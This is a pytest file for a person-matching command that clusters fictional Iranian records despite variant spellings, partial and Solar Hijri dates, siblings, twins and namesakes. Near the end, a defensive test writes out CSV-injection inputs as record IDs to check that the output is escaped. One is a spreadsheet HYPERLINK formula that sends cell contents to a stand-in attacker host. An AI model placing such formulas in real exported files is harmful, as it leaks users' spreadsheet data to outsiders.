"""Person matching: `docket link` on a CSV alone, and the model behind it (docket.linkage).

Every person here is fictional. The hard cases are the ones the issue names:
variant spellings of one person must be merged; siblings who share family
name, father's name and birth place must not be; nor namesakes with common
names.
"""

import csv
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command

from bench.linkage.generate import generate
from docket.linkage.model import link
from docket.linkage.records import BirthDate, RecordsError, parse_birth_date, prepare, read_csv

HEADER = "record_id,given_name,family_name,father_name,birth_date,birth_place,source"

# One fictional family and two namesakes, each written by several hands.
HARD_CASES = [
    # One person, four spellings in two scripts, dates partial, swapped and a year off.
    ("gs1", "Gholamreza", "Shekari", "Hossein", "1975-03-02", "Tehran", "family list"),
    ("gs2", "Qolamreza", "Shakari", "Hosein", "1975", "تهران", "testimony"),
    ("gs3", "غلامرضا", "شکاری", "حسین", "1975-02-03", "Tehran", "roster"),
    ("gs4", "Gholam-Reza", "Shekary", "Hossein", "1976", "Teheran", "media report"),
    # Their siblings: same family name, father's name and birth place.
    ("ms1", "Mahmoud", "Shekari", "Hossein", "1978-06-11", "Tehran", "family list"),
    ("ms2", "محمود", "شکاری", "حسین", "1978", "تهران", "testimony"),
    ("hs1", "Hasan", "Shekari", "Hossein", "1980-01-20", "Tehran", "family list"),
    ("hs2", "Hassan", "Shekari", "Hosein", "1980", "Tehran", "roster"),
    ("ho1", "Hossein", "Shekari", "Hossein", "1982-09-05", "Tehran", "family list"),
    ("ho2", "حسین", "شکاری", "حسین", "1982", "تهران", "testimony"),
    # Namesakes: a common given and family name, different fathers and years.
    ("mh1", "Mohammad", "Hosseini", "Ali", "1970-04-12", "Mashhad", "family list"),
    ("mh2", "Muhammad", "Husseini", "Ali", "1970", "مشهد", "media report"),
    ("mh3", "محمد", "حسینی", "علی", "1970-04-12", "مشهد", "testimony"),
    ("mr1", "Mohammad", "Hosseini", "Reza", "1985-08-30", "Esfahan", "family list"),
    ("mr2", "محمد", "حسینی", "رضا", "1985", "اصفهان", "testimony"),
    # Family name first, in the given-name column, as some rosters write it.
    ("zm1", "Zahra", "Mousavi", "Javad", "1990-11-02", "Shiraz", "family list"),
    ("zm2", "MOUSAVI", "ZAHRA", "JAWAD", "02/11/1990", "Shiraz", "roster"),
    ("zm3", "زهرا", "موسوی", "جواد", "", "", "testimony"),
    # Twins: everything agrees but the given name.
    ("tw1", "Hamid", "Rostami", "Kazem", "1984-07-09", "Kerman", "family list"),
    ("tw2", "حمید", "رستمی", "کاظم", "1984", "کرمان", "testimony"),
    ("tw3", "Zahra", "Rostami", "Kazem", "1984-07-09", "Kerman", "family list"),
    # Namesakes with the commonest names, born years apart, no father's name.
    ("mm1", "Mohammad", "Mohammadi", "", "1970", "Tehran", "media report"),
    ("mm2", "محمد", "محمدی", "", "1985-02-03", "تهران", "testimony"),
    # A Solar Hijri year: 1360 is 1981/82.
    ("sh1", "Bahram", "Azadi", "Kourosh", "1981-05-02", "Shiraz", "family list"),
    ("sh2", "بهرام", "آزادی", "کوروش", "۱۳۶۰", "شیراز", "testimony"),
]
SAME_PERSON = [
    {"gs1", "gs2", "gs3", "gs4"},
    {"ms1", "ms2"},
    {"hs1", "hs2"},
    {"ho1", "ho2"},
    {"mh1", "mh2", "mh3"},
    {"mr1", "mr2"},
    {"zm1", "zm2", "zm3"},
    {"tw1", "tw2"},
    {"tw3"},
    {"mm1"},
    {"mm2"},
    {"sh1", "sh2"},
]


def _write(path: Path, rows: list[tuple[str, ...]], header: str = HEADER) -> Path:
    path.write_text(header + "\n" + "".join(",".join(row) + "\n" for row in rows), encoding="utf-8")
    return path


def _clusters(path: Path) -> dict[str, str]:
    with path.open(newline="", encoding="utf-8") as source:
        return {row["record_id"]: row["cluster_id"] for row in csv.DictReader(source)}


def _people(clusters: dict[str, str]) -> list[set[str]]:
    groups: dict[str, set[str]] = {}
    for record_id, cluster_id in clusters.items():
        groups.setdefault(cluster_id, set()).add(record_id)
    return sorted(groups.values(), key=sorted)


def _assert_hard_cases_resolved(clusters: dict[str, str]) -> None:
    hard = {
        record_id: cluster
        for record_id, cluster in clusters.items()
        if record_id in {row[0] for row in HARD_CASES}
    }
    assert _people(hard) == sorted(SAME_PERSON, key=sorted)


def test_docket_link_works_on_a_fresh_machine_from_a_csv_alone(docket_command, tmp_path):
    source = _write(tmp_path / "people.csv", HARD_CASES)
    out = tmp_path / "clusters.csv"

    result = docket_command("link", str(source), "--out", str(out))

    assert result.returncode == 0, result.stderr
    clusters = _clusters(out)
    assert list(clusters) == [row[0] for row in HARD_CASES]  # one row per record, in order
    _assert_hard_cases_resolved(clusters)
    # Progress and the time each stage took go to standard error.
    assert "scoring candidate pairs:" in result.stderr
    assert " s" in result.stderr
    assert out.read_text(encoding="utf-8").startswith("record_id,cluster_id\n")


def test_variants_merge_and_siblings_and_namesakes_do_not_on_a_small_list(tmp_path):
    out = tmp_path / "clusters.csv"

    call_command("link", str(_write(tmp_path / "in.csv", HARD_CASES)), out=out)

    _assert_hard_cases_resolved(_clusters(out))


def test_a_trained_model_resolves_the_hard_cases_among_many_records(tmp_path):
    # Enough generated records to train on (expectation maximisation and term
    # frequencies), with the hand-made hard cases among them.
    generated = [
        tuple(row[column] for column in HEADER.split(",")) for row in generate(1500, seed=7)
    ]
    out = tmp_path / "clusters.csv"

    call_command("link", str(_write(tmp_path / "in.csv", generated + HARD_CASES)), out=out)

    clusters = _clusters(out)
    assert len(clusters) == len(generated) + len(HARD_CASES)
    _assert_hard_cases_resolved(clusters)


def test_a_list_to_train_on_that_shares_no_birth_date_and_no_name_is_still_scored(
    monkeypatch,
):
    # Many lists give no full birth date, and a short one may hold no namesakes: each
    # training block then holds no pair. Training keeps the starting weights for what
    # it could not learn, instead of failing the whole run (the worker's duplicate
    # finder failed on such a list). A low training threshold keeps the test small.
    monkeypatch.setattr("docket.linkage.model.MIN_RECORDS_TO_TRAIN", 40)
    syllables = [a + b for a in "bdfgklmnprstvz" for b in "aeiou"]
    rows = [
        (f"p{i}", syllables[i] + syllables[-i - 1], syllables[i * 3 % 70] + "i", "", "", "", "")
        for i in range(60)
    ]

    linked = _linked(rows)

    assert len(set(linked.values())) == len(rows)


def test_a_higher_threshold_merges_no_more(tmp_path):
    source = _write(tmp_path / "in.csv", HARD_CASES)
    loose, strict = tmp_path / "loose.csv", tmp_path / "strict.csv"

    call_command("link", str(source), out=loose, threshold=0.5)
    call_command("link", str(source), out=strict, threshold=0.999999)

    assert len(_people(_clusters(strict))) >= len(_people(_clusters(loose)))


def test_a_lone_record_is_its_own_cluster(tmp_path):
    out = tmp_path / "clusters.csv"

    call_command("link", str(_write(tmp_path / "in.csv", HARD_CASES[:1])), out=out)

    assert _clusters(out) == {"gs1": "gs1"}


@pytest.mark.parametrize(
    "content, message",
    [
        ("", "is empty"),
        ("record_id,given_name,family_name\nr1,Ali,Karimi\n", "lacks the columns father_name, "),
        (HEADER + "\n", "has a header but no records"),
        (HEADER + "\nr1,Ali,Karimi,,,,\nr1,Ali,Karimi,,,,\n", "repeats the record_id 'r1'"),
        (HEADER + "\n,Ali,Karimi,,,,\n", "line 2 has no record_id"),
    ],
)
def test_a_bad_csv_gets_one_sentence(tmp_path, content, message):
    source = tmp_path / "in.csv"
    source.write_text(content, encoding="utf-8")

    with pytest.raises(CommandError, match=message) as error:
        call_command("link", str(source), out=tmp_path / "out.csv")

    assert "\n" not in str(error.value)
    assert not (tmp_path / "out.csv").exists()


def test_the_command_prints_a_bad_csv_as_one_line(docket_command, tmp_path):
    source = tmp_path / "in.csv"
    source.write_text("name\nAli\n", encoding="utf-8")

    result = docket_command("link", str(source), "--out", str(tmp_path / "out.csv"))

    assert result.returncode == 1
    assert result.stderr.strip().splitlines()[-1] == (
        "CommandError: in.csv lacks the columns record_id, given_name, family_name, "
        "father_name, birth_date, birth_place, source."
    )


def test_a_missing_file_is_named(tmp_path):
    with pytest.raises(RecordsError, match="does not exist"):
        read_csv(tmp_path / "nowhere.csv")


@pytest.mark.parametrize("threshold", ["0", "1", "1.5", "x"])
def test_the_threshold_is_a_probability(tmp_path, threshold):
    with pytest.raises(CommandError):
        call_command(
            "link",
            str(_write(tmp_path / "in.csv", HARD_CASES)),
            "--out",
            str(tmp_path / "out.csv"),
            "--threshold",
            threshold,
        )


@pytest.mark.parametrize(
    "text, expected",
    [
        ("1975-03-02", BirthDate(1975, 3, 2)),
        ("1975-03", BirthDate(1975, 3)),
        ("1975", BirthDate(1975)),
        ("1975~", BirthDate(1975)),
        ("02/03/1975", BirthDate(1975, 3, 2)),
        ("2.3.1975", BirthDate(1975, 3, 2)),
        ("1975/03/02", BirthDate(1975, 3, 2)),
        ("۱۹۷۵-۰۳-۰۲", BirthDate(1975, 3, 2)),
        ("31/02/1975", BirthDate(1975)),
        # Solar Hijri: the Gregorian year the date falls in, without month and day.
        ("1360", BirthDate(1981, solar_hijri=True)),
        ("۱۳۶۰", BirthDate(1981, solar_hijri=True)),
        ("1360-05-12", BirthDate(1981, solar_hijri=True)),
        ("1360-10-11", BirthDate(1982, solar_hijri=True)),
        ("1360-12-29", BirthDate(1982, solar_hijri=True)),
        ("1360-06-31", BirthDate(1981, solar_hijri=True)),
        ("1299", BirthDate()),
        ("", BirthDate()),
        ("about forty", BirthDate()),
    ],
)
def test_birth_dates_keep_what_they_say(text, expected):
    assert parse_birth_date(text) == expected


def test_every_record_gets_a_cluster_even_without_names():
    rows = [
        dict(zip(HEADER.split(","), row, strict=True))
        for row in [*HARD_CASES[:3], ("x1", "", "", "", "", "", ""), ("x2", "", "", "", "", "", "")]
    ]

    linkage = link(prepare(rows))

    assert set(linkage.cluster_of) == set(range(len(rows)))
    assert linkage.cluster_of[3] != linkage.cluster_of[4]


def _linked(rows: list[tuple[str, ...]], threshold: float | None = None) -> dict[str, int]:
    records = [dict(zip(HEADER.split(","), row, strict=True)) for row in rows]
    linkage = link(prepare(records), **({} if threshold is None else {"threshold": threshold}))
    return {row[0]: linkage.cluster_of[index] for index, row in enumerate(rows)}


@pytest.mark.parametrize(
    "year, linked",
    [
        ("1360", True),  # 1981/82
        ("1361", True),  # 1982/83: a year off, as a converted year may be
        ("1365", False),  # 1986/87
    ],
)
def test_a_solar_hijri_year_is_compared_as_the_gregorian_year_within_one(year, linked):
    clusters = _linked(
        [
            ("a", "Bahram", "Azadi", "", "1981-05-02", "Shiraz", "family list"),
            ("b", "بهرام", "آزادی", "", year, "شیراز", "testimony"),
        ]
    )

    assert (clusters["a"] == clusters["b"]) is linked


def test_a_record_that_says_little_does_not_join_two_namesakes():
    # fm3 could be either Fatemeh Mohammadi; fm1 and fm2 are plainly two
    # people (other fathers, births thirteen years apart), so however fm3
    # goes, they must not end in one cluster through it.
    clusters = _linked(
        [
            ("fm1", "Fatemeh", "Mohammadi", "Ali", "1975-01-01", "Tehran", "family list"),
            ("fm2", "فاطمه", "محمدی", "رضا", "1988-06-05", "تهران", "testimony"),
            ("fm3", "Fateme", "Mohammadi", "", "", "Tehran", "media report"),
        ]
    )

    assert clusters["fm1"] != clusters["fm2"]
    assert clusters["fm3"] in {clusters["fm1"], clusters["fm2"]}


def test_twins_are_not_merged_even_with_a_loose_threshold():
    clusters = _linked([row for row in HARD_CASES if row[0].startswith("tw")], threshold=0.01)

    assert clusters["tw1"] == clusters["tw2"]
    assert clusters["tw3"] != clusters["tw1"]


def test_record_ids_that_a_spreadsheet_would_run_are_written_as_text(tmp_path):
    formulas = ['=HYPERLINK("http://attacker.example/?"&A1)', "+1+1", "-2+3", "@SUM(1)"]
    rows = [(record_id, *HARD_CASES[0][1:]) for record_id in formulas] + [HARD_CASES[4]]
    source = tmp_path / "in.csv"
    with source.open("w", newline="", encoding="utf-8") as target:
        writer = csv.writer(target)
        writer.writerow(HEADER.split(","))
        writer.writerows(rows)
    out = tmp_path / "clusters.csv"

    call_command("link", str(source), out=out)

    with out.open(newline="", encoding="utf-8") as written:
        cells = [cell for row in csv.reader(written) for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert {f"'{record_id}" for record_id in formulas} <= set(cells)
    assert "ms1" in cells


def test_spreadsheet_cells_are_escaped_per_owasp():
    from docket.lib.spreadsheet import safe_cell

    assert [safe_cell(c) for c in ["=1", "+1", "-1", "@a", "\t=1", "\r=1", "a=1", "", None]] == [
        "'=1",
        "'+1",
        "'-1",
        "'@a",
        "'\t=1",
        "'\r=1",
        "a=1",
        "",
        "",
    ]
